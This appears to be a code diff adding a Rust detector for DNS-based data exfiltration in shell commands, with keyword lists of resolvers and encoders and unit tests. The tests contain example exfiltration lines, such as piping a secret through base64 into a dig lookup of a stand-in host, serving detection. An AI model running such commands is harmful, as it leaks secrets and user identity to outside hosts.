@@ -1,0 +1,47 @@
+//! Data that leaves as the name of a host somebody is asked about.
+//!
+//! The line is in lower case.
+
+use super::command::find_word;
+
+/// What asks a name server.
+const RESOLVERS: &[&str] = &["dig", "nslookup", "drill", "host", "resolve-dnsname"];
+/// What data is made of that is asked for as the name of a host.
+const CARRIED: &[&str] = &["base64", "base32", "xxd", "hexdump", "od ", "cat ", "printenv", "whoami", "$"];
+/// How many substitutions of a line are looked into.
+const MAX_PLACES: usize = 16;
+
+/// `dig $(cat x | base64).host.io`: data as the name of a host.
+pub(super) fn asked(line: &str) -> Option<usize> {
+    let at = RESOLVERS.iter().filter_map(|word| find_word(line, word)).min()?;
+    let rest = line.get(at..)?;
+    rest.match_indices("$(").take(MAX_PLACES).find_map(|(open, _)| {
+        let inner = rest.get(open + 2..)?;
+        let close = inner.find(')')?;
+        let host = inner.get(close + 1..)?.trim_start_matches('"').strip_prefix('.')?;
+        let carried = inner.get(..close)?;
+        let named = host.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '$');
+        (named && CARRIED.iter().any(|word| carried.contains(word))).then_some(at)
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn data_asked_for_as_a_host_is_seen() {
+        for line in [
+            "dig @1.2.3.4 $(echo $secret | base64).x.dev",
+            "nslookup \"$(whoami)\".x.dev",
+            "host $(cat x | xxd -p).x.dev",
+        ] {
+            assert!(asked(line).is_some(), "{line}");
+        }
+        for line in
+            ["dig +short x.dev", "dig $(terraform output name).x.dev", "host $(hostname)", "nslookup $(cat hosts.txt)"]
+        {
+            assert_eq!(asked(line), None, "{line}");
+        }
+    }
+}
